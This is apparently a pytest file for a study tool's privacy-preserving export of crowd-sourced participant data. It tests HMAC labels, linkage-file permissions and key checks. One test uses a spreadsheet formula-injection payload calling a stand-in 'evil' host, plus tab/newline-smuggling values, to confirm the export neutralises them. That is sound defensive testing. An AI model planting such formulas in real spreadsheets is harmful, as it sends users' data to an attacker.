"""export-online's dataset made to be shared: no id of a crowd platform in it, the link from
label to platform ids in a file beside it, labels that stay across exports."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import string
import subprocess

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sbir_study.analysis import load_ratings
from sbir_study.foundation.checks import InputError
from sbir_study.study.online import publish
from tests.helpers import assert_valid_bids, run_main
from tests.study.online.support import make_client, report, start

STUDY_ID = "65a1f0c2d3e4b5a6978890ab"  # a Prolific study id: 24 hex digits
#: Real user agents (Chrome 120 on Windows 10, Firefox 121 on macOS) and what jsPsych's
#: browser check (detect-browser) gives for them.
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.6099.109 Safari/537.36"
)
FIREFOX = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:121.0) Gecko/20100101 Firefox/121.0"
BROWSERS = [
    {
        "user_agent": CHROME,
        "browser": "chrome",
        "browser_version": "120.0.6099",
        "os": "Windows 10",
    },
    {"user_agent": FIREFOX, "browser": "firefox", "browser_version": "121.0.0", "os": "Mac OS"},
]


def take_part(client, source_id: str, session_id: str | None, *, trials: int, browser: dict):
    """A participant as a platform sends one: its ids in the address, ``trials`` trials rated.
    What the dataset must not hold: the ids, the token, the server's session id."""
    url = {"STUDY_ID": STUDY_ID}
    if session_id:  # Prolific: the id is PROLIFIC_PID; else the address's participant=
        url |= {"PROLIFIC_PID": source_id, "SESSION_ID": session_id}
    else:
        url |= {"participant": source_id}
    answer, token = start(client, source_id, url_parameters=url, environment=browser)
    assert answer.status_code == 201, answer.text
    state = answer.json()
    headers = {"Authorization": f"Bearer {token}"}
    for number, trial in enumerate(state["trials"][:trials], start=1):
        put = client.put(
            f"/api/sessions/{state['session_id']}/trials/{number}",
            json=report(trial, number, [(str(1 + number % 7), 0.3)]),
            headers=headers,
        )
        assert put.status_code == 201, put.text
    return [source_id, session_id, token, state["session_id"]]


def read_tsv(path) -> pd.DataFrame:
    return pd.read_csv(path, sep="\t", dtype=str, keep_default_na=False)


def test_a_shared_export_holds_no_platform_id_and_the_linkage_file_beside_it_does(
    tmp_path, online_set
):
    client = make_client(tmp_path, online_set)
    secrets = take_part(
        client,
        "5f8d0e2a9b1c3d4e5f6a7b8c",
        "a1b2c3d4e5f60718293a4b5c6d7e8f90",
        trials=99,
        browser=BROWSERS[0],
    )
    secrets += take_part(
        client,
        "60c4d2e8f1a3b5c7d9e0f2a4",
        "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
        trials=3,
        browser=BROWSERS[1],
    )
    # Not Prolific: an id whose label (R3kVq9xTq2bLm1pA) is its letters.
    secrets += take_part(client, "R_3kVq9x-Tq2bLm1pA", None, trials=0, browser=BROWSERS[0])
    secrets += ["R3kVq9xTq2bLm1pA", STUDY_ID, CHROME, FIREFOX, "120.0.6099"]
    secrets = [s for s in secrets if s]
    out = tmp_path / "bids"
    done = run_main("export-online", "--db", f"sqlite:///{client.db}", "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert "bids.linkage.tsv" in done.stdout
    assert_valid_bids(out)

    # Every file of the dataset, hidden ones and the output record too, byte for byte.
    files = [path for path in out.rglob("*") if path.is_file()]
    assert len(files) >= 10
    for path in files:
        content = path.read_bytes() + str(path.relative_to(out)).encode()
        for secret in secrets:
            assert secret.encode() not in content, (secret, path.relative_to(out))

    # The browser and operating system stay, as the page's browser check named them.
    sidecars = [json.loads(p.read_text()) for p in sorted(out.glob("sub-*/beh/*_beh.json"))]
    assert sorted((s["Browser"], s["BrowserVersion"], s["OperatingSystem"]) for s in sidecars) == [
        ("chrome", "120", "Windows 10"),
        ("firefox", "121", "Mac OS"),
    ]
    assert not {"UserAgent", "CrowdPlatform"} & {key for s in sidecars for key in s}
    people = read_tsv(out / "participants.tsv")
    assert list(people.columns) == ["participant_id", "status", "age", "sex", "handedness"]
    assert people["participant_id"].tolist() == sorted(people["participant_id"])

    # Beside the dataset, not in it: each label with the platform's ids, for the lab's eyes.
    linkage = tmp_path / "bids.linkage.tsv"
    assert os.stat(linkage).st_mode & 0o777 == 0o600
    assert os.stat(tmp_path / "label-key").st_mode & 0o777 == 0o600
    table = read_tsv(linkage)
    assert list(table.columns) == [
        "participant_id",
        "participant",
        "source_id",
        "PROLIFIC_PID",
        "STUDY_ID",
        "SESSION_ID",
    ]
    by_source = table.set_index("source_id").drop(columns="participant_id")
    assert by_source.loc["5f8d0e2a9b1c3d4e5f6a7b8c"].to_dict() == {
        "participant": "5f8d0e2a9b1c3d4e5f6a7b8c",
        "PROLIFIC_PID": "5f8d0e2a9b1c3d4e5f6a7b8c",
        "STUDY_ID": STUDY_ID,
        "SESSION_ID": "a1b2c3d4e5f60718293a4b5c6d7e8f90",
    }
    assert by_source.loc["R_3kVq9x-Tq2bLm1pA"].to_dict() == {
        "participant": "R3kVq9xTq2bLm1pA",
        "PROLIFIC_PID": "n/a",
        "STUDY_ID": STUDY_ID,
        "SESSION_ID": "n/a",
    }
    assert sorted(table["participant_id"]) == people["participant_id"].tolist()
    # The label is the key's HMAC-SHA256 of the platform's id, as openssl computes it.
    key = (tmp_path / "label-key").read_text().strip()
    for row in table.itertuples():
        mac = subprocess.run(
            ["openssl", "dgst", "-sha256", "-hmac", key, "-r"],
            input=row.source_id.encode(),
            capture_output=True,
            check=True,
        ).stdout.split()[0]
        assert row.participant_id == f"sub-{mac[: publish.LABEL_DIGITS].decode()}"
    # analyze reads it: each participant who stored a trial, under the dataset's label.
    ratings = load_ratings(out)
    assert set(ratings["participant"]) == {
        label.removeprefix("sub-")
        for label, source in zip(table["participant_id"], table["source_id"], strict=True)
        if source != "R_3kVq9x-Tq2bLm1pA"
    }


def test_labels_stay_across_exports_and_keep_platform_ids_brings_the_ids_back(tmp_path, online_set):
    client = make_client(tmp_path, online_set)
    take_part(client, "5f8d0e2a9b1c3d4e5f6a7b8c", "a" * 32, trials=2, browser=BROWSERS[0])
    db = f"sqlite:///{client.db}"
    first, second, kept = tmp_path / "first", tmp_path / "second", tmp_path / "kept"
    assert run_main("export-online", "--db", db, "--out", str(first)).returncode == 0
    take_part(client, "60c4d2e8f1a3b5c7d9e0f2a4", "b" * 32, trials=2, browser=BROWSERS[1])
    assert run_main("export-online", "--db", db, "--out", str(second)).returncode == 0
    labels = [
        dict(zip(t["source_id"], t["participant_id"], strict=True))
        for t in map(read_tsv, (tmp_path / "first.linkage.tsv", tmp_path / "second.linkage.tsv"))
    ]
    # The participant of the first export keeps its label; the new one has its own.
    assert labels[1] == labels[0] | {
        "60c4d2e8f1a3b5c7d9e0f2a4": labels[1]["60c4d2e8f1a3b5c7d9e0f2a4"]
    }
    assert len(set(labels[1].values())) == 2
    first_beh = {p.relative_to(first): p.read_bytes() for p in first.rglob("sub-*/beh/*_beh.tsv")}
    assert first_beh == {
        p: (second / p).read_bytes() for p in first_beh
    }  # the same files, byte for byte

    # Another key, other labels: they come from the key, not from the ids alone.
    other_key = tmp_path / "other-key"
    other = tmp_path / "other"
    done = run_main("export-online", "--db", db, "--out", str(other), "--label-key", str(other_key))
    assert done.returncode == 0, done.stderr
    assert not set(read_tsv(tmp_path / "other.linkage.tsv")["participant_id"]) & set(
        labels[1].values()
    )

    # Kept in the lab: the server's labels, source_id, the platform's ids and the user agent.
    done = run_main("export-online", "--db", db, "--out", str(kept), "--keep-platform-ids")
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "kept.linkage.tsv").exists()
    people = read_tsv(kept / "participants.tsv")
    assert people[["participant_id", "source_id"]].values.tolist() == [
        ["sub-5f8d0e2a9b1c3d4e5f6a7b8c", "5f8d0e2a9b1c3d4e5f6a7b8c"],
        ["sub-60c4d2e8f1a3b5c7d9e0f2a4", "60c4d2e8f1a3b5c7d9e0f2a4"],
    ]
    sidecar = json.loads(next(kept.glob("sub-5f8d0e2a9b1c3d4e5f6a7b8c/beh/*.json")).read_text())
    assert sidecar["UserAgent"] == CHROME and sidecar["BrowserVersion"] == "120.0.6099"
    assert sidecar["CrowdPlatform"] == {
        "PROLIFIC_PID": "5f8d0e2a9b1c3d4e5f6a7b8c",
        "STUDY_ID": STUDY_ID,
        "SESSION_ID": "a" * 32,
    }
    assert "source_id" in json.loads((kept / "participants.json").read_text())


def test_a_lab_session_copied_in_leaves_its_platform_id_out_of_a_shared_dataset(
    tmp_path, online_set
):
    """``run --participant`` keeps the id it was given as source_id: the shared dataset
    does not; the lab's labels and files are copied as they are."""
    from sbir_study.study.recorder import SessionRecorder

    client = make_client(tmp_path, online_set)
    take_part(client, "5f8d0e2a9b1c3d4e5f6a7b8c", None, trials=1, browser=BROWSERS[0])
    lab = tmp_path / "lab"
    lab_id = "5e0d1c2b3a49586776859403"
    recorder = SessionRecorder.open(
        lab, "lab1", task="sbirtest", session={}, trial_order=[], source_id=lab_id
    )
    recorder.finish("complete")
    db, out = f"sqlite:///{client.db}", tmp_path / "bids"
    done = run_main("export-online", "--db", db, "--out", str(out), "--with-lab", str(lab))
    assert done.returncode == 0, done.stderr
    people = read_tsv(out / "participants.tsv")
    assert "source_id" not in people.columns and "sub-lab1" in set(people["participant_id"])
    for path in (p for p in out.rglob("*") if p.is_file()):
        assert lab_id.encode() not in path.read_bytes(), path
    kept = tmp_path / "kept"
    done = run_main(
        "export-online",
        "--db",
        db,
        "--out",
        str(kept),
        "--with-lab",
        str(lab),
        "--keep-platform-ids",
    )
    assert done.returncode == 0, done.stderr
    assert lab_id in set(read_tsv(kept / "participants.tsv")["source_id"])


def test_the_linkage_file_is_one_line_a_participant_and_safe_in_a_spreadsheet(tmp_path, online_set):
    """Opened in a spreadsheet to pay participants: a formula id is text, as in
    admin/participants.csv, and a tab or line break the address carried stays in its cell."""
    client = make_client(tmp_path, online_set)
    formula = '=HYPERLINK("https://evil/?"&A2,"approve")'
    answer, _ = start(
        client, formula, url_parameters={"participant": formula, "STUDY_ID": "a\tb\nc"}
    )
    assert answer.status_code == 201, answer.text
    out = tmp_path / "bids"
    done = run_main("export-online", "--db", f"sqlite:///{client.db}", "--out", str(out))
    assert done.returncode == 0, done.stderr
    lines = (tmp_path / "bids.linkage.tsv").read_text().splitlines()
    assert len(lines) == 2
    row = dict(zip(lines[0].split("\t"), lines[1].split("\t"), strict=True))
    assert row["source_id"] == "'" + formula
    assert row["STUDY_ID"] == "a\\u0009b\\u000ac"
    assert row["participant"] == "HYPERLINKhttpsevilA2approve"  # the id rule's label


def test_a_key_the_export_cannot_trust_is_refused_in_one_line(tmp_path, online_set):
    client = make_client(tmp_path, online_set)
    take_part(client, "5f8d0e2a9b1c3d4e5f6a7b8c", None, trials=1, browser=BROWSERS[0])
    db = f"sqlite:///{client.db}"
    key = tmp_path / "label-key"
    key.write_text("0123456789abcdef" * 4 + "\n")
    key.chmod(0o644)
    refused = run_main("export-online", "--db", db, "--out", str(tmp_path / "a"))
    assert refused.returncode == 2 and f"expected mode 0600 (chmod 600 {key})" in refused.stderr
    key.chmod(0o600)
    key.write_text("0123456789abcdef\n")  # 64 bits
    refused = run_main("export-online", "--db", db, "--out", str(tmp_path / "b"))
    assert refused.returncode == 2 and "at least 32 hex digits" in refused.stderr
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()
    with pytest.raises(InputError, match=r"^--label-key: expected the file"):
        publish.default_label_key("postgresql://sbir@db.internal:5432/sbir")


@given(
    st.lists(st.text(min_size=1, max_size=64), min_size=1, max_size=40, unique=True),
    st.binary(min_size=16, max_size=64),
    st.sampled_from([1, 2, publish.LABEL_DIGITS]),
)
def test_keyed_labels_are_distinct_bids_labels_that_later_ids_never_change(ids, key, digits):
    """With few digits, ids share them often: each later one gets 4 digits more."""
    labels = publish.keyed_labels(key, ids, digits=digits)
    assert len(set(labels.values())) == len(ids)
    for number, source_id in enumerate(ids):
        digest = hmac.new(key, source_id.encode("utf-8"), hashlib.sha256).hexdigest()
        label = labels[source_id]
        assert digest.startswith(label) and len(label) >= digits
        assert (len(label) - digits) % 4 == 0
        assert set(label) <= set(string.hexdigits.lower())
        # The labels given before it: the same whatever came after.
        assert publish.keyed_labels(key, ids[: number + 1], digits=digits)[source_id] == label
